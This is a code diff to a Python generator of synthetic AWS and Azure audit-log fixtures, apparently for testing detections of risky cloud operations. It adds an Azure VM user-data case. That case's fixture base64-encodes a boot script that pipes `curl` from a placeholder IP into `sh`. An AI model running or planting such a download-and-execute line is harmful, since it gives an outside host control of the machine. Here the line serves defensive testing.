@@ -1856,14 +1856,15 @@ def build_aws(row_id: str, ctx: Ctx, look: bool, error_kind: str | None) -> dict
 # time / principal slots
 # ------------------------------------------------------------------------------------------------
 
-def slot_time(k: int, n: int, hour: int, key: str, month: int = 10, first: int = 1) -> dt.datetime:
+def slot_time(k: int, n: int, hour: int, key: str, month: int = 10, first: int = 1, days: int | None = None) -> dt.datetime:
     """File k of n: its own day in October 2026 (September for the issue-14 rows, August for the
     cross-subscription copies); a principal's files are >24 h apart. `first`: the month's first
     day the set may use."""
     # September files end 2+ days before October's; December's (the EBS direct rows, then the
     # IMDSv1 launch templates on the 4th and 5th) stay in its first days, before the clock of the
     # tests that refuse events from the future.
-    days = 31 if month == 10 else (3 if first == 1 else 2) if month == 12 else 28
+    # The Azure user-data row's pair has November's last two days (`days`), after the late rows'.
+    days = days or (31 if month == 10 else (3 if first == 1 else 2) if month == 12 else 28)
     day = first + (k * days) // n
     return dt.datetime(2026, month, day, hour, day, num(key, "sec", mod=60), tzinfo=UTC)
 
@@ -2070,6 +2071,14 @@ def vm_os_disk_body(name):
     return body
 
 
+def vm_user_data_body(name):
+    """A VM's full model as an update sends it, its user data set: a script cloud-init runs at
+    boot (base64 of `#!/bin/sh` and a download piped to a shell)."""
+    body = vm_os_disk_body(name)
+    body["properties"]["userData"] = base64.b64encode(b"#!/bin/sh\ncurl -s http://203.0.113.50/a | sh\n").decode()
+    return body
+
+
 def vmss_body(size, prefix, publisher, offer, sku):
     return {"location": "westeurope", "sku": {"name": size, "tier": "Standard", "capacity": 8},
             "properties": {"upgradePolicy": {"mode": "Manual"}, "orchestrationMode": "Uniform",
@@ -2157,6 +2166,9 @@ def az_spec(row_id: str):
         # A VM update that names its OS disk, as `az vm update --os-disk` sends it (the look-alike:
         # the VM's create from an image, whose OS disk does not exist yet).
         "azure.compute.vm_write_os_disk": (rg_web, "virtualMachines/vm-web-03", vm_os_disk_body("vm-web-03"), "lro", None),
+        # A VM update that sets its user data, as `az vm update --user-data` sends it (the
+        # look-alike: the same machine's full update without it, as a resize sends it).
+        "azure.compute.vm_write_user_data": (rg_web, "virtualMachines/vm-web-04", vm_user_data_body("vm-web-04"), "lro", None),
         "azure.compute.disk_delete": (rg_data, "disks/vm-sql01_DataDisk_0", None, "lro",
                                       conflict("OperationNotAllowed", "Disk vm-sql01_DataDisk_0 is attached to VM /subscriptions/aaaaaaaa-1111-2222-3333-444444444444/resourceGroups/rg-prod-data/providers/Microsoft.Compute/virtualMachines/vm-sql01.")),
         "azure.compute.vm_deallocate": (rg_web, "virtualMachines/vm-web-02", None, "lro", "forbidden"),
@@ -2310,6 +2322,8 @@ def az_lookalike_body(row_id: str):
         return vm_body("vm-train-a100-01", "Standard_D16s_v5")
     if row_id == "azure.compute.vm_write_os_disk":
         return vm_body("vm-web-03")
+    if row_id == "azure.compute.vm_write_user_data":
+        return vm_os_disk_body("vm-web-04")
     if row_id == "azure.compute.disk_from_snapshot":
         return {**body, "properties": {"creationData": {"createOption": "Empty"}, "diskSizeGB": 64}}
     if row_id == "azure.compute.vmss_write_gpu":
@@ -2365,6 +2379,8 @@ DECEMBER_ROWS = {"aws.ec2.create_launch_template_imdsv1", "aws.ec2.create_launch
 # (the two steps of an OS disk swapped for a snapshot's): December's 4th and 5th too, which no
 # Azure fixture used.
 DECEMBER_AZ_ROWS = {"azure.compute.disk_from_snapshot", "azure.compute.vm_write_os_disk"}
+# ... and the Azure user-data row November's last two days.
+NOVEMBER_AZ_ROWS = {"azure.compute.vm_write_user_data"}
 
 
 def az_success_phases(op: AzOp, phases: str, body, vm_resp=None) -> list[dict]:
@@ -2412,7 +2428,7 @@ def azure_op_records(key: str, row_op: str, cname: str, t: dt.datetime, style: s
 # ------------------------------------------------------------------------------------------------
 
 def gen_fixtures(catalog: list[dict]) -> dict:
-    later = GAP_ROWS | AZ_LOOKALIKE_ROWS | AZ_GPU_ROWS | LATE_ROWS | EBS_DIRECT_ROWS | JUNE_ROWS | JULY_ROWS | MAY_ROWS | APRIL_ROWS | MARCH_ROWS | FEBRUARY_ROWS | JANUARY_ROWS | DECEMBER_ROWS | DECEMBER_AZ_ROWS
+    later = GAP_ROWS | AZ_LOOKALIKE_ROWS | AZ_GPU_ROWS | LATE_ROWS | EBS_DIRECT_ROWS | JUNE_ROWS | JULY_ROWS | MAY_ROWS | APRIL_ROWS | MARCH_ROWS | FEBRUARY_ROWS | JANUARY_ROWS | DECEMBER_ROWS | DECEMBER_AZ_ROWS | NOVEMBER_AZ_ROWS
     built = gen_fixtures_month([r for r in catalog if r["id"] not in later], 10)
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in GAP_ROWS], 9))
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in AZ_LOOKALIKE_ROWS], 8))
@@ -2427,10 +2443,11 @@ def gen_fixtures(catalog: list[dict]) -> dict:
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in FEBRUARY_ROWS], 2))
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in JANUARY_ROWS], 1))
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in DECEMBER_ROWS | DECEMBER_AZ_ROWS], 12, first=4))
+    built.update(gen_fixtures_month([r for r in catalog if r["id"] in NOVEMBER_AZ_ROWS], 11, first=29, days=2))
     return built
 
 
-def gen_fixtures_month(catalog: list[dict], month: int, first: int = 1) -> dict:
+def gen_fixtures_month(catalog: list[dict], month: int, first: int = 1, days: int | None = None) -> dict:
     aws_rows = [r for r in catalog if r["cloud"] == "aws"]
     az_rows = [r for r in catalog if r["cloud"] == "azure"]
     built = {}
@@ -2445,7 +2462,7 @@ def gen_fixtures_month(catalog: list[dict], month: int, first: int = 1) -> dict:
         row_id = row["id"]
         pname = "root" if path in AWS_ROOT_FILES else AWS_POOL[k % len(AWS_POOL)]
         region = REGIONS[num(path, "region", mod=len(REGIONS))]
-        t = slot_time(k, n, AWS_PRINCIPALS[pname]["hour"], path, month, first)
+        t = slot_time(k, n, AWS_PRINCIPALS[pname]["hour"], path, month, first, days)
         if row_id in SERVICE_EVENT_ROWS:
             t = slot_time(k, n, 6, path)  # the copying account gets its own hour: >24 h between its events
             actor = OWN if is_neg else EXT
@@ -2467,11 +2484,11 @@ def gen_fixtures_month(catalog: list[dict], month: int, first: int = 1) -> dict:
     n = len(files)
     for k, (row, path, is_neg) in enumerate(files):
         cname = AZ_POOL[k % len(AZ_POOL)]
-        t = slot_time(k, n, AZ_CALLERS[cname]["hour"], path, month, first)
+        t = slot_time(k, n, AZ_CALLERS[cname]["hour"], path, month, first, days)
         style = "new" if k % 3 != 1 else "old"
         rg, res, body, phases, failure = az_spec(row["id"])
         op_name = row["operation"]
-        if is_neg and row["id"] in AZ_LOOKALIKE_ROWS | AZ_GPU_ROWS | DECEMBER_AZ_ROWS:
+        if is_neg and row["id"] in AZ_LOOKALIKE_ROWS | AZ_GPU_ROWS | DECEMBER_AZ_ROWS | NOVEMBER_AZ_ROWS:
             recs = azure_op_records(path, op_name, cname, t, style, rg, res, az_lookalike_body(row["id"]), phases)
         elif is_neg and row["id"] == "azure.compute.disk_sas_export":
             # endGetAccess: a successful revocation of the disk SAS (not in the catalog)
